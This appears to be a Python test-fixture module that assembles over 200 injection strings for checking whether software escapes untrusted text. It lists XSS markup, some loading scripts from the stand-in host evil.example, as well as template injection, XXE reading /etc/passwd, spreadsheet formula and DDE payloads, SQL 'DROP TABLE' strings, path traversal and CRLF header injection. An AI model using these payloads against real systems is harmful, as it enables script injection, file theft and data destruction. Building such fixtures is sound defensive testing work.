"""Text that tries to become markup, script, a formula, SQL or a broken file, in every shape it is known to take."""

from __future__ import annotations

from itertools import product

MARKUP = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()>x</a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<x style='background:url(//evil.example/)'>",
)
BREAKOUTS = (
    "{}", '">{}', "'>{}", "</script>{}", "-->{}", "</style>{}", "</title>{}", "]]>{}", "</bdi></h3>{}", "\x00{}",
)  # fmt: skip
OTHERS = (
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "\\u003cscript\\u003epwned()",
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()", "\" onmouseover=pwned() x=\"", "' onfocus=pwned() autofocus '", "` onclick=pwned() `",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "{value}",
    "{0.__class__}", "%s%n%x", "<![CDATA[<script>pwned()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<!--", "<!-- --!><script>pwned()</script>", "</", "<", "&", "\"", "'", "\\", "\\\";pwned();//", "';pwned();'",
    "=1+1", "+1", "-1", "@SUM(A1:A9)", "=HYPERLINK(\"//evil.example\")", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
    "ok\n=1", "  =1", "\u00a0=1", "＝1+1", "＠SUM(1)", "'=1", "\u200b=1", "\ufeff=1",
    "'); DROP TABLE losses; --", "\"; DROP TABLE losses; --", "] OR 1=1 --", "%", "_", "* OR quote:x", "NEAR(a b)",
    "\u202eevil\u202c", "\u2028pwned()", "\u2029pwned()", "\x1b[31mred", "\x07", "\x7f", "\ufffe",
    "👾" * 50, "a" * 5000, "line\r\nInjected: header", "../../etc/passwd", "file:///etc/passwd", "//evil.example",
    "http://evil.example\" onclick=pwned() \"",
)  # fmt: skip
PAYLOADS = tuple(breakout.format(markup) for breakout, markup in product(BREAKOUTS, MARKUP)) + OTHERS
ADDRESSES = (
    "javascript:pwned()", " javascript:pwned()", "JAVASCRIPT:pwned()", "java\nscript:pwned()", "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>", "vbscript:pwned()", "file:///etc/passwd", "//evil.example/x", "https:",
    "https://x.example/\"onclick=pwned()\"", "https://x.example/'><script>pwned()</script>", "http://[", "ftp://x.example/",
    "https://x.example/<img src=x onerror=pwned()>", "blob:https://x.example/1", "view-source:https://x.example/",
)  # fmt: skip
assert len(PAYLOADS) >= 200
